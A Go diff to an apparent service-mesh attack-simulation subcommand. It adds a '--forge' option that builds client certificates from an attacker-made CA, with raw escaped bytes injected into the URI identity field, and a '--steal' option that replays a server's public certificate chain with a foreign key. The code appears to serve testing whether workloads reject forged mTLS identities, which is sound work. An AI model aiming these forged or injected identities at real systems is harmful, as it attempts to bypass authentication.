@@ -8,13 +8,14 @@ import (
 	"crypto/tls"
 	"crypto/x509"
 	"crypto/x509/pkix"
+	"encoding/asn1"
 	"encoding/json"
 	"errors"
 	"fmt"
 	"math/big"
 	"net"
-	"net/url"
 	"os"
+	"strconv"
 	"time"
 
 	"github.com/spf13/cobra"
@@ -32,7 +33,7 @@ type TLSResult struct {
 // TLS returns the subcommand of an attacker who speaks TLS to a workload, with no certificate, or with one that names
 // a mesh identity and is signed by a CA of the attacker's own. The attacker does not care who the server is.
 func TLS() *cobra.Command {
-	var forged string
+	var forged, stolen string
 	cmd := &cobra.Command{Use: "tls ADDRESS", Args: cobra.ExactArgs(1), RunE: func(cmd *cobra.Command, args []string) error {
 		config := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"istio"}} //nolint:gosec // an attacker
 		if forged != "" {
@@ -40,7 +41,14 @@ func TLS() *cobra.Command {
 			if err != nil {
 				return err
 			}
-			config.Certificates = []tls.Certificate{*cert}
+			config.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return cert, nil }
+		}
+		if stolen != "" {
+			cert, err := steal(cmd.Context(), stolen, config)
+			if err != nil {
+				return err
+			}
+			config.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return cert, nil }
 		}
 		var out TLSResult
 		if err := attack(cmd.Context(), args[0], config, &out); err != nil {
@@ -48,7 +56,8 @@ func TLS() *cobra.Command {
 		}
 		return json.NewEncoder(os.Stdout).Encode(out)
 	}}
-	cmd.Flags().StringVar(&forged, "forge", "", "SPIFFE ID of a forged certificate")
+	cmd.Flags().StringVar(&forged, "forge", "", "URI of a forged certificate, whose bytes may be escapes of Go (\\r\\n)")
+	cmd.Flags().StringVar(&stolen, "steal", "", "address of a server whose certificate is shown, without its key")
 	return cmd
 }
 
@@ -84,10 +93,11 @@ func attack(ctx context.Context, address string, config *tls.Config, out *TLSRes
 	return nil
 }
 
-func forge(id string) (*tls.Certificate, error) {
-	uri, err := url.Parse(id)
+// forge makes a certificate that names a URI in the bytes that are given, which need not be a URI at all.
+func forge(text string) (*tls.Certificate, error) {
+	uri, err := strconv.Unquote(`"` + text + `"`)
 	if err != nil {
-		return nil, err
+		return nil, fmt.Errorf("--forge %q: %w", text, err)
 	}
 	caKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
 	if err != nil {
@@ -97,18 +107,41 @@ func forge(id string) (*tls.Certificate, error) {
 	if err != nil {
 		return nil, err
 	}
+	names, err := asn1.Marshal([]asn1.RawValue{{Class: asn1.ClassContextSpecific, Tag: 6, Bytes: []byte(uri)}})
+	if err != nil {
+		return nil, err
+	}
 	now := time.Now()
 	ca := &x509.Certificate{
 		SerialNumber: big.NewInt(1), Subject: pkix.Name{Organization: []string{"attacker"}}, NotBefore: now.Add(-time.Hour),
 		NotAfter: now.Add(time.Hour), IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign,
 	}
 	leaf := &x509.Certificate{
-		SerialNumber: big.NewInt(2), URIs: []*url.URL{uri}, NotBefore: now.Add(-time.Hour), NotAfter: now.Add(time.Hour),
+		SerialNumber: big.NewInt(2), NotBefore: now.Add(-time.Hour), NotAfter: now.Add(time.Hour),
 		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
+		ExtraExtensions: []pkix.Extension{{Id: asn1.ObjectIdentifier{2, 5, 29, 17}, Value: names}},
 	}
 	der, err := x509.CreateCertificate(rand.Reader, leaf, ca, key.Public(), caKey)
 	if err != nil {
 		return nil, err
 	}
 	return &tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, nil
+}
+
+// steal takes the chain that a server shows to everybody; the key is another.
+func steal(ctx context.Context, address string, config *tls.Config) (*tls.Certificate, error) {
+	conn, err := (&tls.Dialer{Config: config}).DialContext(ctx, "tcp", address)
+	if err != nil {
+		return nil, fmt.Errorf("--steal %s: %w", address, err)
+	}
+	defer conn.Close()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		return nil, err
+	}
+	out := &tls.Certificate{PrivateKey: key}
+	for _, c := range conn.(*tls.Conn).ConnectionState().PeerCertificates {
+		out.Certificate = append(out.Certificate, c.Raw)
+	}
+	return out, nil
 }
